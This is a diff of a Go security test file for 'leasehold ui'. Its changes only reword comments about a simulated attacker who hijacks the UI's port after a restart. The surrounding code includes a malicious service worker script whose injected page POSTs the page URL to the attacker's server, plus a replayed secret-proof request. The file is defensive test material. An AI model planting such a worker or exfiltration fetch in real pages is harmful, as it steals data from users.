@@ -29,7 +29,7 @@ type attacker struct {
 
 	mu      sync.Mutex
 	heard   []string      // requests, with their headers and bodies
-	arrived chan struct{} // receives a value after each request, unless it already contains one
+	arrived chan struct{} // receives a value after each request, unless the channel already contains a value
 }
 
 // attack starts an attacker's server at the given port of both loopback addresses. The port
@@ -96,8 +96,8 @@ func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-// wait waits for a request to the attacker. A request that arrived before the call counts
-// too, unless an earlier call of wait has consumed it.
+// wait waits for a request to the attacker. A request that arrived before the call of wait
+// counts too, unless an earlier call of wait has consumed it.
 func (a *attacker) wait() {
 	a.t.Helper()
 	select {
@@ -166,9 +166,9 @@ func opensWith(t testing.TB, at, loot string) string {
 	return ""
 }
 
-// planted returns the script of a malicious service worker. In the browser, this worker
-// answers requests to the origin that installed it. It reports each request to the server at
-// the URL owner.
+// planted returns the script of a malicious service worker. In the browser, this worker answers
+// requests to the origin that installed it. The worker reports each request to the attacker's
+// server at the URL in owner.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
@@ -323,9 +323,9 @@ data: {"rows":[{"i":1,"kind":"lock","key":"a lie","state":"released"}]}
 
 `
 
-// The test kills leasehold ui while its page is open, and an attacker takes the port. The
-// page must not show the attacker's text. The attacker must receive nothing that still
-// works after leasehold ui restarts with the same secret.
+// The test kills leasehold ui while its page is open, and an attacker takes the port. The page
+// must not show the attacker's text. The attacker must receive no token that leasehold ui still
+// accepts after a restart with the same secret.
 func TestPageSendsNoSecretToServerOnStolenPort(t *testing.T) {
 	s := newScene(t)
 	addr := freePort(t)
@@ -340,8 +340,8 @@ func TestPageSendsNoSecretToServerOnStolenPort(t *testing.T) {
 		.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });`)
 	_, port, _ := net.SplitHostPort(addr)
 
-	// Any client may request a proof that leasehold ui knows the secret. The attacker requests
-	// one here, and replays it after it has taken over the port.
+	// Any client may request a proof that leasehold ui knows the secret. The attacker requests a
+	// proof here, and replays the proof after taking over the port.
 	said := get(t, "http://"+addr+"/who?nonce="+strings.Repeat("0", 64))
 
 	p.server.kill()
